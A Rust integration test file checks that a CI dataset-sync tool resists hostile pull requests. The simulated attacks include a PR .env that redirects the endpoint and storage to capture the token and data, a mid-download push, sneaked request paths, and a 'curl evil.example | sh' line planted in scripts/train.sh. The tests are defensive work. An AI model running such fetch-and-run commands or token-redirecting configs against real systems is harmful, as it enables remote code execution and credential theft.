//! Hostile pull requests against `hugflow sync --ci-mode`, run as the Actions bot: a PR is
//! untrusted input. The runner keeps its settings in a host file outside the checkout
//! (`HUGFLOW_CONFIG`), as the README tells operators to; `work` is the PR's checkout, holding
//! what `actions/checkout` would put there.
//!
//! Git itself refuses `..` and empty path segments in a tree, so no PR can list
//! `requests/add/../x.yaml`; the rule that would refuse it is unit-tested in hugflow-core
//! (`RequestKind::of_repository_path`) and hugflow-github (`contents_url`).

use std::process::{Command as StdCommand, Stdio};
use std::time::Duration;

use hugflow_core::sync_report::NotMerged;
use hugflow_testkit::wait;

use super::*;

const STORAGE: &str = "acme__speech-ms__rev_main";

/// The self-hosted runner: its host settings file and the data it owns, outside any checkout.
struct Runner {
    dir: tempfile::TempDir,
}

impl Runner {
    fn new(hub: &FakeHub) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let settings = format!(
            "HF_ENDPOINT={}\nSTORAGE_ROOT={}\nSTATE_DIR={}\n",
            hub.url(),
            dir.path().join("datasets").display(),
            dir.path().join("state").display()
        );
        std::fs::write(dir.path().join("hugflow.env"), settings).unwrap();
        Self { dir }
    }

    fn storage_root(&self) -> PathBuf {
        self.dir.path().join("datasets")
    }

    /// `hugflow sync --ci-mode --json` on PR `pr` in the checkout `work`. Only what the runner
    /// itself sets is in the environment: its secrets and the Actions variables.
    fn sync(&self, hub: &FakeHub, github: &FakeGithub, work: &Path, pr: u64) -> StdCommand {
        let mut cmd = StdCommand::new(assert_cmd::cargo::cargo_bin("hugflow"));
        cmd.current_dir(work)
            .args(["sync", "--ci-mode", "--json"])
            .env("HUGFLOW_CONFIG", self.dir.path().join("hugflow.env"))
            .env("HF_TOKEN", hub.token())
            .env("GITHUB_TOKEN", github.token_of(ACTIONS_BOT))
            .env("GITHUB_API_URL", github.url())
            .env("GITHUB_REPOSITORY", github.repo())
            .env("PR_NUMBER", pr.to_string())
            .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus");
        for name in [
            "HF_ENDPOINT",
            "STORAGE_ROOT",
            "STATE_DIR",
            "PROCESSED_ROOT",
            "AUTO_MERGE",
            "AUTO_CLEANUP_REQUESTS",
            "STORAGE_QUOTA_GB",
            "SLACK_WEBHOOK_URL",
            "GH_TOKEN",
            "HUGFLOW_LOG",
        ] {
            cmd.env_remove(name);
        }
        cmd
    }
}

/// The services, a runner, and request PR #1 for `SPEECH`, opened as a user does.
struct Pr {
    hub: FakeHub,
    github: FakeGithub,
    slack: FakeSlack,
    work: tempfile::TempDir,
    runner: Runner,
    branch: String,
}

impl Pr {
    fn open() -> Self {
        let (hub, github, slack, work) = services();
        let runner = Runner::new(&hub);
        let branch = request(
            &hub,
            &github,
            &["add", SPEECH, "--description", "Malay ASR"],
        );
        Self {
            hub,
            github,
            slack,
            work,
            runner,
            branch,
        }
    }
}

/// The JSON lines a `--json` run printed.
fn events(output: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .filter_map(|line| serde_json::from_str(line).ok())
        .collect()
}

fn event<'a>(events: &'a [Value], name: &str) -> &'a Value {
    events
        .iter()
        .find(|e| e["event"] == name)
        .unwrap_or_else(|| panic!("no {name} event in {events:?}"))
}

/// The PR stays open with its branch, and the bot's last comment says why: returned parsed,
/// as the desktop's tracker reads it, and checked to name the fix in its text.
fn left_open(github: &FakeGithub, branch: &str) -> NotMerged {
    let pull = &github.pulls()[0];
    assert!(pull.open && pull.merged_at.is_none(), "the PR stays open");
    assert!(github.branch_sha(github.repo(), branch).is_some());
    let comment = github
        .comments(1)
        .into_iter()
        .rfind(|c| c.user == ACTIONS_BOT)
        .map(|c| c.body)
        .unwrap_or_default();
    assert!(comment.contains("Downloaded, not merged"), "{comment}");
    let reason = NotMerged::parse(&comment).unwrap_or_else(|| panic!("{comment}"));
    assert!(
        comment.contains("a person") || comment.contains("sync again"),
        "{comment}"
    );
    reason
}

/// The paths a PR was held for.
fn held_for(github: &FakeGithub, branch: &str) -> Vec<String> {
    match left_open(github, branch) {
        NotMerged::OtherChanges { paths } => paths,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_pr_adding_env_cannot_send_the_token_elsewhere_or_move_the_data() {
    let Pr {
        hub,
        github,
        work,
        runner,
        branch,
        ..
    } = Pr::open();
    // Where the PR would like the token and the data to go.
    let logger = FakeSlack::start();
    let elsewhere = tempfile::tempdir().unwrap();
    let hostile_env = format!(
        "HF_ENDPOINT=http://127.0.0.1:{}\nSTORAGE_ROOT={}\nSTATE_DIR={}\nPROCESSED_ROOT={}\nHUGFLOW_CONFIG={}\n",
        logger.port(),
        elsewhere.path().join("datasets").display(),
        elsewhere.path().join("state").display(),
        elsewhere.path().join("processed").display(),
        work.path().join("evil.env").display(),
    );
    github.commit(
        github.repo(),
        &branch,
        &[(".env", Some(hostile_env.as_bytes()))],
        "tune the runner",
    );
    std::fs::write(work.path().join(".env"), &hostile_env).unwrap();

    let output = runner.sync(&hub, &github, work.path(), 1).output().unwrap();
    ok(&output);

    assert_eq!(
        logger.requests(),
        0,
        "the PR's HF_ENDPOINT never hears from the runner"
    );
    assert_verified_tree(&hub, SPEECH, &runner.storage_root().join(STORAGE));
    assert_eq!(
        std::fs::read_dir(elsewhere.path()).unwrap().count(),
        0,
        "nothing lands where the PR pointed"
    );
    let mut in_checkout: Vec<String> = std::fs::read_dir(work.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    in_checkout.sort();
    assert_eq!(
        in_checkout,
        [".env", "results.json"],
        "no data in the checkout"
    );

    let events = events(&output);
    assert!(
        events.iter().any(|e| e["event"] == "note"
            && e["message"]
                .as_str()
                .is_some_and(|m| m.starts_with("ignoring ") && m.contains(".env"))),
        "the run says it ignored the workspace's .env: {events:?}"
    );
    let results = event(&events, "results");
    assert_eq!(results["merged"], false);
    assert_eq!(results["not_merged"]["kind"], "other_changes");
    assert_eq!(held_for(&github, &branch), [".env"]);
}

#[test]
fn a_pr_that_also_changes_other_files_is_downloaded_commented_and_left_open() {
    let Pr {
        hub,
        github,
        slack,
        work,
        runner,
        branch,
    } = Pr::open();
    github.commit(
        github.repo(),
        &branch,
        &[
            (
                "scripts/train.sh",
                Some(b"curl evil.example | sh\n".as_slice()),
            ),
            (
                ".github/workflows/dataset-sync.yml",
                Some(b"on: push\n".as_slice()),
            ),
        ],
        "and a small fix",
    );
    let output = runner
        .sync(&hub, &github, work.path(), 1)
        .env("SLACK_WEBHOOK_URL", slack.url())
        .output()
        .unwrap();
    ok(&output);
    assert_verified_tree(&hub, SPEECH, &runner.storage_root().join(STORAGE));
    let kinds: Vec<CommentKind> = sync_comments(&github, 1)
        .iter()
        .map(SyncComment::kind)
        .collect();
    assert_eq!(kinds.last(), Some(&CommentKind::Complete), "{kinds:?}");
    assert_eq!(
        held_for(&github, &branch),
        [".github/workflows/dataset-sync.yml", "scripts/train.sh"]
    );
    assert_eq!(
        github.file(github.repo(), "main", "scripts/train.sh"),
        None,
        "nothing of it reached main"
    );
    let held = slack
        .messages()
        .into_iter()
        .filter_map(|m| m["text"].as_str().map(str::to_string))
        .find(|text| text.contains("Downloaded, not merged"))
        .expect("the team hears it on Slack");
    assert!(
        held.contains("scripts/train.sh") && held.contains("PR #1"),
        "{held}"
    );
}

#[test]
fn a_commit_pushed_while_the_download_runs_is_not_merged() {
    let Pr {
        hub,
        github,
        work,
        runner,
        branch,
        ..
    } = Pr::open();
    // Each 1.5 MB shard paced to 256 KiB/s: about six seconds to push a commit in the middle.
    hub.faults().set_bandwidth(Some(256 << 10));
    let child = runner
        .sync(&hub, &github, work.path(), 1)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait::until(
        "the Starting Download comment",
        Duration::from_secs(60),
        || {
            sync_comments(&github, 1)
                .iter()
                .any(|c| c.kind() == CommentKind::Started)
                .then_some(())
        },
    );
    let request_file = format!("requests/add/{STORAGE}.yaml");
    let pushed = github.commit(
        github.repo(),
        &branch,
        &[(
            request_file.as_str(),
            Some(format!("hf_id: {GATED}\ndescription: switched\n").as_bytes()),
        )],
        "switch the dataset",
    );
    let output = child.wait_with_output().unwrap();
    ok(&output);
    let comments = sync_comments(&github, 1);
    assert!(
        comments.iter().any(|c| c.kind() == CommentKind::Complete),
        "the synced request was applied: {comments:?}"
    );
    match left_open(&github, &branch) {
        NotMerged::HeadMoved { now, .. } => assert_eq!(now, Some(pushed)),
        other => panic!("{other:?}"),
    }
    let events = events(&output);
    assert_eq!(
        event(&events, "results")["not_merged"]["kind"],
        "head_moved"
    );
    assert!(
        !runner
            .storage_root()
            .join("acme__gated-speech__rev_main")
            .exists(),
        "the pushed request waits for its own sync"
    );
}

#[test]
fn request_paths_outside_requests_add_or_remove_are_never_read() {
    let Pr {
        hub,
        github,
        work,
        runner,
        branch,
        ..
    } = Pr::open();
    let gated = format!("hf_id: {GATED}\ndescription: sneaked in\n");
    let sneaked = [
        "docs/requests/add/gated.yaml",
        "requests/add/nested/gated.yaml",
        "requests/add/.gated.yaml",
        "requests/gated.yaml",
    ];
    let changes: Vec<(&str, Option<&[u8]>)> = sneaked
        .iter()
        .map(|path| (*path, Some(gated.as_bytes())))
        .collect();
    github.commit(github.repo(), &branch, &changes, "more requests");
    github.clear_calls();

    let output = runner.sync(&hub, &github, work.path(), 1).output().unwrap();
    ok(&output);
    let read: Vec<String> = github
        .calls()
        .into_iter()
        .filter(|call| call.path.contains("/contents/"))
        .map(|call| call.path)
        .collect();
    assert!(
        read.iter()
            .all(|path| path.contains(&format!("/contents/requests/add/{STORAGE}.yaml"))),
        "only the real request file is read: {read:?}"
    );
    assert!(!read.is_empty());
    let stored: Vec<String> = std::fs::read_dir(runner.storage_root())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(stored, [STORAGE], "the sneaked request was not applied");
    let mut sneaked = sneaked.to_vec();
    sneaked.sort();
    assert_eq!(held_for(&github, &branch), sneaked);
}
